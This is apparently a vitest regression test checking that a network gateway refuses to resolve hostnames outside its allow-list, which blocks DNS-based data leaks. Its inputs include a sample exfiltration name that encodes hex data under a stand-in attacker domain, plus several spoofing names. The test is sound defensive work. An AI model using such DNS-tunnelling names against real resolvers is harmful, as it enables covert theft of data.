/**
 * Regression (issue 10, point 3): under the loopback-only policy the gateway sent a DNS query for any
 * name a client gave, so a client could leak data through the gateway's resolver. A name that no
 * entry could allow is now refused before any lookup; `localhost` is the loopback without asking.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startGateway, type TestGateway } from '../support/gateway-harness.js';
import { expectProblem } from '../support/gateway-routes.js';
import { startDnsServer, type TestDnsServer } from '../support/dns-server.js';

let dns: TestDnsServer;
let gw: TestGateway;

beforeAll(async () => {
  dns = await startDnsServer({ 'svc.corp.example': ['127.0.0.1'] });
  gw = await startGateway({ allowTargets: ['127.0.0.0/8', '*.corp.example'], dnsServers: [dns.address] });
  expect((await gw.call('POST', '/sessions', { kind: 'stream', name: 'tcp' })).status).toBe(201);
  expect((await gw.call('POST', '/sessions', { kind: 'datagram', name: 'udp' })).status).toBe(201);
});
afterAll(async () => {
  await gw.close();
  await dns.close();
});

describe('names no entry could allow', () => {
  it('are refused with 403 before any query, on connect and on SendTo', async () => {
    const names = ['exfil-6c6f6e67207365637265742064617461.attacker.example', 'x.example.org', 'corp.example.evil', 'localhost.attacker.example'];
    for (const host of names) {
      const r = await gw.call('POST', '/sessions/tcp/connect', { host, port: 7 });
      expectProblem(r, 403, 'TARGET_NOT_ALLOWED');
      expect(r.body.message).toContain('not looked up');
      expectProblem(await gw.call('POST', '/sessions/udp/datagrams', { host, port: 7, data: 'AA==' }), 403, 'TARGET_NOT_ALLOWED');
      expectProblem(await gw.call('POST', '/sessions/udp/connect', { host, port: 7 }), 403, 'TARGET_NOT_ALLOWED');
    }
    expect(dns.queries).toEqual([]);
  });

  it('localhost is the loopback without a query; a name matching an entry is looked up', async () => {
    const r = await gw.call('POST', '/sessions/udp/datagrams', { host: 'localhost', port: 9, data: 'AA==' });
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect(dns.queries).toEqual([]);
    const looked = await gw.call('POST', '/sessions/udp/datagrams', { host: 'svc.corp.example', port: 9, data: 'AA==' });
    expect(looked.status, JSON.stringify(looked.body)).toBe(200);
    expect(dns.queries).toContain('svc.corp.example');
  });

  it('an unknown name under an entry is HOST_NOT_FOUND after its lookup', async () => {
    expectProblem(await gw.call('POST', '/sessions/tcp/connect', { host: 'gone.corp.example', port: 7 }), 502, 'HOST_NOT_FOUND');
    expect(dns.queries).toContain('gone.corp.example');
  });
});
